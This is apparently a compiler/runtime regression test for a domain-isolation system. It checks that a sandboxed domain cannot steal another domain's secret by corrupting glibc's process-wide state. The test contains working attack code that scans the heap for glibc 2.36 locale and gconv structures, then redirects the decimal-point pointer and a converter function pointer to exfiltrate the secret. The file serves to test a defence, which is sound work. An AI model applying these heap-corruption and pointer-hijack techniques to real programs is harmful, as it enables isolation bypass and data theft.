// libc keeps process-wide state it follows later on every domain's
// behalf: a locale's records, the character converters (with function
// pointers), time zones, the environment. What it allocates goes through
// the loader's malloc, which took blocks from the running domain's heap,
// so a domain that made that state could rewrite it. An attack round's
// domain `sneak`, with no grant at all:
// - numeric: setlocale(LC_NUMERIC) made the category's record in sneak's
//   heap; sneak pointed its decimal point at vault's secret, and
//   snprintf("%.1f") copied the secret into sneak's buffer;
// - converter: setlocale(LC_CTYPE) and a "%ls" made the converters in
//   sneak's heap; sneak pointed one's (unmangled) function at its own
//   code, which libc then called while vault printed a wide string: it ran
//   with vault's rights and wrote the secret out.
// Under `sfi` these functions run in a libc-state window
// (loader/stream_memory.h): libc's own allocations go to libc's heap,
// which sneak cannot write; setlocale loads the converters itself. The
// locale and the conversions still work. Control: under `none` both steal.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t numeric 2>&1 | FileCheck %s --check-prefix=SFI-NUMERIC
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t converter 2>&1 | FileCheck %s --check-prefix=SFI-CONVERTER
// RUN: %dipc-bin-dir/dipc-run --backend=none %t numeric 2>&1 | FileCheck %s --check-prefix=NONE-NUMERIC
// RUN: %dipc-bin-dir/dipc-run --backend=none %t converter 2>&1 | FileCheck %s --check-prefix=NONE-CONVERTER
// SFI-NUMERIC: sneak formatted '1.5'
// SFI-NUMERIC: nothing stolen
// SFI-CONVERTER: sneak formatted 'a'
// SFI-CONVERTER-NOT: vault-secret
// SFI-CONVERTER: vault printed '[log]'
// NONE-NUMERIC: stole 'vault-secret-42
// NONE-CONVERTER: vault-secret-42
#include "Inputs/vault.h"
#include <locale.h>
#include <unistd.h>
#include <wchar.h>

/* glibc 2.36's struct __locale_data: `alloc` at 24, `nstrings` at 48,
 * values[] at 56; values[0] of LC_NUMERIC is the decimal point. */
static char *find_numeric_record(char *near) {
  for (char *b = near - 112 * 16; b <= near + 112 * 16; b += 16) {
    if (b == near)
      continue;
    unsigned alloc = *(unsigned *)(b + 24), nstrings = *(unsigned *)(b + 48);
    long size = *(long *)(b + 16);
    if (alloc == 1 && nstrings >= 3 && nstrings < 64 && size > 0 &&
        size < (1 << 20) && *(void **)(b + 8) && *(void **)b)
      return b;
  }
  return NULL;
}

long numeric(const char *secret, char *loot) __dom("sneak") __entry;
long numeric(const char *secret, char *loot) {
  if (!setlocale(LC_NUMERIC, "C.UTF-8"))
    return -1;
  char out[64];
  snprintf(out, sizeof out, "%.1f", 1.5);
  memcpy(loot, out, 4); /* the locale works */
  char *record = find_numeric_record(malloc(112)); /* its size class */
  if (record) {
    *(const char **)(record + 56) = secret;
    snprintf(out, sizeof out, "%.1f", 1.5);
    memcpy(loot + 4, out + 1, 20);
  }
  return record != NULL;
}

/* glibc's struct gconv_fcts: the steps of each direction. */
struct gconv_fcts { long *towc; size_t towc_nsteps; long *tomb;
                    size_t tomb_nsteps; };

int hook(void *step, void *data, void *a, void *b, void *c, void *d, int e,
         int f) __dom("sneak");
int hook(void *step, void *data, void *a, void *b, void *c, void *d, int e,
         int f) {
  /* Runs as vault. No string literals: they are sneak's memory. */
  const volatile char *s = vault_secret; /* its address is no secret */
  char msg[16];
  for (int i = 0; i < 15; i++)
    msg[i] = s[i];
  msg[15] = '\n';
  write(1, msg, 16);
  return 4; /* __GCONV_EMPTY_INPUT */
}

long converter(char *loot) __dom("sneak") __entry;
long converter(char *loot) {
  if (!setlocale(LC_CTYPE, "C.UTF-8"))
    return -1;
  wchar_t w[2] = {0x61, 0};
  snprintf(loot, 8, "%ls", w);
  char *m = malloc(32); /* struct gconv_fcts's size class */
  for (char *p = m - 512; p < m + 512; p += 16) {
    struct gconv_fcts *f = (struct gconv_fcts *)p;
    if ((char *)f == m || f->towc_nsteps != 1 || f->tomb_nsteps != 1)
      continue;
    uintptr_t t = (uintptr_t)f->tomb;
    if (t - (uintptr_t)m + (1u << 24) > (2u << 24))
      continue; /* not in sneak's heap */
    if (f->tomb[0] != 0)
      continue; /* __shlib_handle: a module's, mangled */
    f->tomb[5] = (long)(uintptr_t)hook; /* __fct */
    return 1;
  }
  return 0;
}

long vault_log(char *out) __dom("vault") __entry;
long vault_log(char *out) {
  wchar_t w[4] = {0x6c, 0x6f, 0x67, 0};
  return snprintf(out, 8, "[%ls]", w);
}

int main(int argc, char **argv) {
  char loot[32] = "";
  if (argc > 1 && strcmp(argv[1], "converter") == 0) {
    long r = converter(loot);
    printf("sneak formatted '%s', returned %ld, dipc_errno %d\n", loot, r,
           dipc_errno);
    fflush(stdout);
    char out[8] = "";
    r = vault_log(out);
    printf("vault printed '%s', returned %ld, dipc_errno %d\n", out, r,
           dipc_errno);
    return 0;
  }
  long r = numeric(vault_address(), loot);
  printf("sneak formatted '%.3s', returned %ld, dipc_errno %d\n", loot, r,
         dipc_errno);
  printf(strstr(loot + 4, "vault") ? "stole '%s'\n" : "nothing stolen%.0s\n",
         loot + 4);
  return 0;
}
